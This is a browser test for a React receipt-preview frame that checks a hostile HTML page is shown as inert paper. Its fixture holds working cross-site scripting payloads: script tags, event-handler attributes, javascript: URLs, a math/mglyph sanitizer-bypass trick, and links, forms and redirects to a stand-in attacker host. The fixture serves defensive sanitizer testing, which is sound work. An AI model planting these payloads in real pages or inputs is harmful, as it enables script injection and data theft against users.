import "@backroom/ui/tokens.css";
import "@backroom/ui/base.css";
import { expect, it, vi } from "vitest";
import { page } from "vitest/browser";
import { render } from "vitest-browser-react";
import { PaperFrame } from "./PaperFrame.tsx";

const BARCODE = "/api/barcode/R00000001.svg?width=200&height=60&text=true";
const PIXEL =
  "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAAC0lEQVR4nGNgAAIAAAUAAXpeqz8AAAAASUVORK5CYII=";

/** What a hostile server, or a text that was not escaped, could send. */
const hostile = `<!doctype html><html lang="ar" dir="rtl" onload="top.hacked=1"><head>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css"><script>top.hacked=1</script>
<style>main { inline-size: 58.0mm; background: url(https://evil.example/css.png) } </style ><script>top.hacked=1</script>
<style>@import "https://evil.example/y.css"; p { color: rgb(1, 2, 3) }</style></head>
<body onpageshow="top.hacked=1"><main>
<p id="text">Sum <b>59,84</b></p><img src="${BARCODE}" width="200" height="60"><img class="own" src="${PIXEL}">
<img src="https://evil.example/x.png" onerror="top.hacked=1" srcset="https://evil.example/2x.png 2x">
<img src="/api/barcode/../user/profile"><img src="/api/download/receipt/1/r.pdf">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.hacked=1'/>">
<svg onload="top.hacked=1"><script>top.hacked=1</script><foreignObject><iframe srcdoc="<script>top.hacked=1</script>"></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.hacked=1&gt;"></table></mtext></math>
<iframe src="javascript:top.hacked=1"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e">
<form action="https://evil.example/f"><input autofocus onfocus="top.hacked=1"><button>Pay</button></form>
<a href="javascript:top.hacked=1" target="_top">Link</a><details open ontoggle="top.hacked=1">More</details>
<video src="https://evil.example/v" autoplay></video><div contenteditable tabindex="0">Edit</div>
</main></body></html>`;

it("shows a hostile page as paper: its text, its style and barcodes, and nothing that acts or loads", async () => {
  const onKeyDown = vi.fn<(event: KeyboardEvent) => void>();
  await render(
    <PaperFrame
      label="R1, Original"
      html={hostile}
      apiUrl={window.location.origin}
      widthMm={null}
      zoom={1}
      onKeyDown={onKeyDown}
    />,
  );
  const element = page.getByTitle("R1, Original").element();
  if (!(element instanceof HTMLIFrameElement)) throw new Error("There is no frame");
  const shown = () => element.contentDocument?.getElementById("text") ?? null;
  await expect.poll(() => shown()?.textContent).toBe("Sum 59,84");
  const frame = element.contentDocument;
  const view = element.contentWindow;
  if (frame === null || view === null) throw new Error("The frame cannot be read");
  expect(element.getAttribute("sandbox")).not.toContain("allow-scripts");
  expect([frame.documentElement.lang, frame.documentElement.dir]).toEqual(["ar", "rtl"]);
  expect(view.getComputedStyle(frame.querySelector("p") ?? frame.body).color).toBe("rgb(1, 2, 3)");
  const acting =
    "script, iframe, object, embed, form, input, button, a, base, link, svg, math, video, details";
  expect([...frame.querySelectorAll(acting)].map(({ tagName }) => tagName)).toEqual([]);
  const attributes = [...frame.querySelectorAll("*")].flatMap((one) => one.getAttributeNames());
  expect(attributes.filter((name) => /^on|srcset|contenteditable|tabindex|href/.test(name))).toEqual([]);
  const sources = [...frame.images].flatMap((image) => image.getAttribute("src") ?? []);
  expect(sources).toEqual([`${window.location.origin}${BARCODE}`, PIXEL]);
  const metas = [...frame.querySelectorAll("meta[http-equiv]")].map((meta) =>
    meta.getAttribute("http-equiv"),
  );
  expect(metas).toEqual(["Content-Security-Policy"]);
  const loaded = view.performance.getEntriesByType("resource").map(({ name }) => name);
  expect(loaded.filter((name) => name.includes("evil.example"))).toEqual([]);
  expect(Reflect.get(window, "hacked")).toBeUndefined();
  // 58 mm wide, as its style says, and as high as what it holds.
  await expect.poll(() => Math.round(element.getBoundingClientRect().width)).toBe(219);
  await expect.poll(() => element.offsetHeight).toBe(frame.body.scrollHeight);
  frame.body.dispatchEvent(new KeyboardEvent("keydown", { key: "j", bubbles: true }));
  expect(onKeyDown.mock.lastCall?.[0].key).toBe("j");
});
